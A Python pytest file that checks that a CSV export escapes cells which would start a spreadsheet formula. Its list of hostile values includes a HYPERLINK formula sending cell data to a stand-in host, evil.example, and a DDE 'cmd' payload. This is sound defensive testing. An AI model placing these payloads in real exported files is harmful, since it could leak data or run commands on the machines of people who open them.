"""CSV injection: no cell pairdesk writes can start a spreadsheet formula (OWASP guidance)."""

from __future__ import annotations

import csv
import io

import pytest

from app.domain.csv_safe import safe_cell, write_csv
from app.domain.import_rows import results_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_written_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Toko 1", "6281234", "a=b", "", "'quoted", "x-y"])
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_every_cell_is_quoted_and_reads_back_as_text() -> None:
    rows = [{"label": v, "n": i} for i, v in enumerate(HOSTILE)]
    text = write_csv(["label", "n"], rows)
    for line in text.split("\n"):
        if line:
            assert line.startswith('"')  # quoted: a separator inside cannot open a new cell
    back = list(csv.DictReader(io.StringIO(text)))
    assert [r["label"] for r in back] == ["'" + v for v in HOSTILE]


def test_the_onboarding_results_escape_the_operators_sheet() -> None:
    row = {
        "row": "2",
        "workspace_id": "7",
        "label": "=HYPERLINK(1)",
        "phone": "+62 812",
        "session_id": "webjs_7_1_aaaaaaaa",
        "result": "rejected: -2+3",
        "seconds": "",
    }
    [back] = list(csv.DictReader(io.StringIO(results_csv([row]))))
    assert back["label"] == "'=HYPERLINK(1)"
    assert back["phone"] == "'+62 812"
    assert back["session_id"] == "webjs_7_1_aaaaaaaa"
